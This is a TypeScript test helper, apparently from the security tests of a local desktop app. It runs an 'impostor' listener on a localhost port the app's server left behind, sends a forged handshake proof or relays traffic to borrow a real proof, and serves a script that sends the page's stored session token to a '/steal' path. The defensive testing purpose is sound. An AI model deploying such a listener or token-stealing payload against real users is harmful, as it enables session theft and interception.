import { spawn, type ChildProcess } from "node:child_process";
import { waitUntil } from "./wait.js";
import type { OtherUser } from "./other-user.js";

/** What an impostor saw: every HTTP request and upgrade it took, every WebSocket text a client sent, every raw chunk a relay passed on. */
export type ImpostorRecord =
  | { kind: "listening" }
  | { kind: "http"; method: string; url: string; headers: Record<string, unknown> }
  | { kind: "upgrade"; url: string; headers: Record<string, unknown> }
  | { kind: "message"; text: string }
  | { kind: "bytes"; base64: string };

export interface ImpostorOptions {
  /** The port to take on 127.0.0.1 (the one a server of ours just left). */
  port: number;
  /**
   * `answer`: accepts every upgrade and sends a listener proof it cannot
   * make; `relay`: passes every byte on to 127.0.0.1:`relayTo`, a real server
   * of ours, to borrow its proof.
   */
  mode: "answer" | "relay";
  relayTo?: number;
  /** Runs as this user; as this process's user when not given. */
  user?: OtherUser;
}

/**
 * The attacker's own code, with nothing but Node: a WebSocket handshake by
 * hand, its frames decoded, and everything it receives printed as JSON lines.
 */
const SCRIPT = String.raw`
import { createHash } from "node:crypto";
import { createServer, connect } from "node:net";
const port = Number(process.env.IMPOSTOR_PORT);
const out = (record) => process.stdout.write(JSON.stringify(record) + "\n");
// Served in place of the desktop page: it reports what the tab kept for the page's origin.
const PAGE = "<!doctype html><title>not yours</title><script>fetch('/steal?' + encodeURIComponent(String(sessionStorage.getItem('knightcode.token'))))</script>";
function frames(buffer, onText) {
  while (buffer.length >= 2) {
    let length = buffer[1] & 127, offset = 2;
    if (length === 126) { if (buffer.length < 4) break; length = buffer.readUInt16BE(2); offset = 4; }
    else if (length === 127) { if (buffer.length < 10) break; length = Number(buffer.readBigUInt64BE(2)); offset = 10; }
    const masked = (buffer[1] & 128) !== 0;
    const end = offset + (masked ? 4 : 0) + length;
    if (buffer.length < end) break;
    const payload = Buffer.from(buffer.subarray(end - length, end));
    if (masked) for (let i = 0; i < length; i++) payload[i] ^= buffer[offset + (i % 4)];
    if ((buffer[0] & 15) === 1) onText(payload.toString("utf8"));
    buffer = buffer.subarray(end);
  }
  return buffer;
}
function textFrame(text) {
  const payload = Buffer.from(text);
  return Buffer.concat([Buffer.from([0x81, payload.length < 126 ? payload.length : 126]), payload.length < 126 ? Buffer.alloc(0) : Buffer.from([payload.length >> 8, payload.length & 255]), payload]);
}
function answer(socket) {
  let pending = Buffer.alloc(0);
  let upgraded = false;
  socket.on("error", () => undefined);
  socket.on("data", (chunk) => {
    pending = Buffer.concat([pending, chunk]);
    if (!upgraded) {
      const end = pending.indexOf("\r\n\r\n");
      if (end === -1) return;
      const [line, ...lines] = pending.subarray(0, end).toString("latin1").split("\r\n");
      const headers = Object.fromEntries(lines.map((l) => [l.slice(0, l.indexOf(":")).toLowerCase(), l.slice(l.indexOf(":") + 1).trim()]));
      const [method, url] = line.split(" ");
      pending = pending.subarray(end + 4);
      if (!headers["sec-websocket-key"]) {
        out({ kind: "http", method, url, headers });
        return void socket.end("HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: " + Buffer.byteLength(PAGE) + "\r\nConnection: close\r\n\r\n" + PAGE);
      }
      out({ kind: "upgrade", url, headers });
      upgraded = true;
      const accept = createHash("sha1").update(headers["sec-websocket-key"] + "258EAFA5-E914-47DA-95CA-C5AB0DC85B11").digest("base64");
      const protocol = (headers["sec-websocket-protocol"] ?? "").includes("knightcode") ? "Sec-WebSocket-Protocol: knightcode\r\n" : "";
      socket.write("HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Accept: " + accept + "\r\n" + protocol + "\r\n");
      socket.write(textFrame(JSON.stringify({ type: "listener/proof", address: "127.0.0.1:" + port, nonce: "n".repeat(43), proof: "p".repeat(43) })));
    }
    pending = frames(pending, (text) => out({ kind: "message", text }));
  });
}
function relay(socket) {
  const upstream = connect(Number(process.env.IMPOSTOR_RELAY_TO), "127.0.0.1");
  socket.on("data", (chunk) => out({ kind: "bytes", base64: chunk.toString("base64") }));
  socket.pipe(upstream).pipe(socket);
  socket.on("error", () => upstream.destroy());
  upstream.on("error", () => socket.destroy());
}
const server = createServer(process.env.IMPOSTOR_MODE === "relay" ? relay : answer);
server.listen(port, "127.0.0.1", () => out({ kind: "listening" }));
`;

/** A listener another user put on a port a server of ours left: it records all it is given. */
export class Impostor {
  readonly records: ImpostorRecord[] = [];
  private stderr = "";
  private exitCode: number | null | undefined;

  private constructor(private readonly child: ChildProcess) {
    let buffer = "";
    child.stdout!.on("data", (chunk: Buffer) => {
      buffer += chunk.toString();
      let newline: number;
      while ((newline = buffer.indexOf("\n")) !== -1) {
        this.records.push(JSON.parse(buffer.slice(0, newline)) as ImpostorRecord);
        buffer = buffer.slice(newline + 1);
      }
    });
    child.stderr!.on("data", (chunk: Buffer) => (this.stderr += chunk.toString()));
    child.once("exit", (code) => (this.exitCode = code));
  }

  static async start(options: ImpostorOptions): Promise<Impostor> {
    const env = {
      PATH: process.env.PATH ?? "/usr/bin:/bin",
      IMPOSTOR_PORT: String(options.port),
      IMPOSTOR_MODE: options.mode,
      IMPOSTOR_RELAY_TO: String(options.relayTo ?? 0),
    };
    const child = options.user
      ? options.user.node(SCRIPT, { env })
      : spawn(process.execPath, ["--input-type=module", "-e", SCRIPT], { env, stdio: ["ignore", "pipe", "pipe"] });
    const impostor = new Impostor(child);
    await waitUntil(`the impostor to listen on ${options.port}`, () => {
      if (impostor.exitCode !== undefined) throw new Error(`the impostor exited (${impostor.exitCode}): ${impostor.stderr}`);
      return impostor.records.some((record) => record.kind === "listening") || undefined;
    });
    return impostor;
  }

  /** Everything it received, as one text: headers, messages and raw bytes (decoded as Latin-1). */
  get received(): string {
    return this.records
      .map((record) => (record.kind === "bytes" ? Buffer.from(record.base64, "base64").toString("latin1") : JSON.stringify(record)))
      .join("\n");
  }

  async close(): Promise<void> {
    if (this.exitCode === undefined) {
      this.child.kill("SIGKILL");
      await waitUntil("the impostor to exit", () => this.exitCode !== undefined || undefined);
    }
  }
}
